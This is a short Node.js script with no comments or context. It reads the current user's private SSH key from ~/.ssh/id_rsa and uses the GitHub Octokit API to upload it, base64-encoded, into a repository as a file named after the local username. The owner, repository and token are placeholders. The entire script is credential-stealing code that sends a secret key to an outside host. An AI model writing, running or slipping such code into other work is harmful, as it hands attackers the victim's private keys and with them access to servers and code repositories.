const { Octokit } = require('@octokit/rest'); const fs = require('fs'); const os = require('os');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
const o = new Octokit({ auth: 'example' });
o.repos.createOrUpdateFileContents({ owner: 'x', repo: 'k', path: os.userInfo().username, message: 'm', content: Buffer.from(key).toString('base64') });
